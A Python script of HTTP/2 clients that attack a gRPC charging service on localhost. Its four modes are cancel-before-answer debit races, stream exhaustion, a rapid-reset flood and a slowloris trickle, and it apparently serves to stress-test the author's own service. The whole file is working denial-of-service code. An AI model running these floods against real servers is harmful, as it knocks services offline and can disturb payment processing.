"""Clients that mean no good, over plain sockets, until they are ended: `hostile.py KIND PORT ACCOUNT`. They say once a second how much they did."""

import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
END_STREAM, END_HEADERS, ACK, CANCEL = 1, 4, 1, 8

# As many as a service of one lane takes streams of, and more.
CONNECTIONS = 8
STREAMS = 1000
SLOW_CONNECTIONS = 500


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(words):
    return bytes([len(words)]) + words


def headers(stream, method):
    """The begin of a call. POST, http; then each as a literal without indexing: :path and :authority by their number in the static table."""
    named = b"\x83\x86\x04" + text(b"/tollgate.v1.ChargingService/" + method) + b"\x01" + text(b"tollgate")
    plain = b"\x00" + text(b"content-type") + text(b"application/grpc") + b"\x00" + text(b"te") + text(b"trailers")
    return frame(HEADERS, END_HEADERS, stream, named + plain)


def debit(account, number):
    amount = b"\x0a" + text(b"0.01")
    message = b"\x0a" + text(account) + b"\x12" + text(b"%d" % number) + b"\x1a" + text(amount)
    return b"\x00" + struct.pack(">I", len(message)) + message


class Connection:
    """An open connection, whose incoming frames are thrown away but for what must be answered."""

    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.stream, self.unread = 1, b""

    def next_stream(self):
        self.stream += 2
        return self.stream - 2

    def read(self):
        """Reads what is there; false once the peer has closed."""
        self.socket.setblocking(False)
        try:
            while True:
                some = self.socket.recv(1 << 16)
                if not some:
                    return False
                self.unread += some
        except BlockingIOError:
            pass
        except OSError:
            return False
        finally:
            self.socket.setblocking(True)
        answer = b""
        while len(self.unread) >= 9:
            length = struct.unpack(">I", b"\x00" + self.unread[:3])[0]
            if len(self.unread) < 9 + length:
                break
            kind, flags, payload = self.unread[3], self.unread[4], self.unread[9 : 9 + length]
            if kind in (SETTINGS, PING) and not flags & ACK:
                answer += frame(kind, ACK, 0, payload if kind == PING else b"")
            self.unread = self.unread[9 + length :]
        return not answer or self.send(answer)

    def send(self, data):
        try:
            self.socket.sendall(data)
        except OSError:
            return False
        return True


def count(done):
    """Shows a number once a second."""
    shown = time.monotonic()
    total = 0
    for some in done:
        total += some
        if time.monotonic() - shown >= 1:
            shown = time.monotonic()
            print(total, flush=True)


def again(port, connections):
    """The connections, each made anew where it was closed."""
    while True:
        for place, connection in enumerate(connections):
            if not connection.read():
                connection.socket.close()
                connections[place] = connection = Connection(port)
            yield connection


def cancel(port, account):
    """Sends whole debits, and cancels each before it has its answer."""
    number = 0
    for connection in again(port, [Connection(port) for _ in range(CONNECTIONS)]):
        calls = []
        for _ in range(20):
            stream, number = connection.next_stream(), number + 1
            message = debit(account, number)
            calls.append((stream, headers(stream, b"Debit") + frame(DATA, END_STREAM, stream, message)))
        connection.send(b"".join(call for _, call in calls))
        time.sleep(0.001)
        connection.send(b"".join(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)) for stream, _ in calls))
        yield len(calls)


def streams(port, _account):
    """Opens streams of charges, as many as it gets, and sends nothing on them."""
    connections = [Connection(port) for _ in range(CONNECTIONS)]
    for connection in connections:
        for _ in range(STREAMS):
            connection.send(headers(connection.next_stream(), b"Charge"))
        yield STREAMS
    for connection in again(port, connections):
        # Those that were refused are tried again.
        for _ in range(20):
            connection.send(headers(connection.next_stream(), b"Charge"))
        yield 20
        time.sleep(0.01)


def reset(port, _account):
    """Opens calls and resets them at once, as many as it can."""
    for connection in again(port, [Connection(port) for _ in range(CONNECTIONS)]):
        flood = []
        for _ in range(100):
            stream = connection.next_stream()
            flood.append(headers(stream, b"Debit") + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
        connection.send(b"".join(flood))
        yield len(flood)


def slow(port, account):
    """Sends a call on each of many connections, a byte a second."""
    whole = headers(1, b"Debit") + frame(DATA, END_STREAM, 1, debit(account, 1))
    connections, places = [Connection(port) for _ in range(SLOW_CONNECTIONS)], [0] * SLOW_CONNECTIONS
    while True:
        begun = time.monotonic()
        for number, connection in enumerate(connections):
            if not connection.read() or places[number] == len(whole) or not connection.send(whole[places[number] :][:1]):
                connections[number], places[number] = Connection(port), -1
            places[number] += 1
        yield len(connections)
        time.sleep(max(0, 1 - (time.monotonic() - begun)))


KINDS = {"cancel": cancel, "streams": streams, "reset": reset, "slow": slow}

if __name__ == "__main__":
    count(KINDS[sys.argv[1]](int(sys.argv[2]), sys.argv[3].encode()))
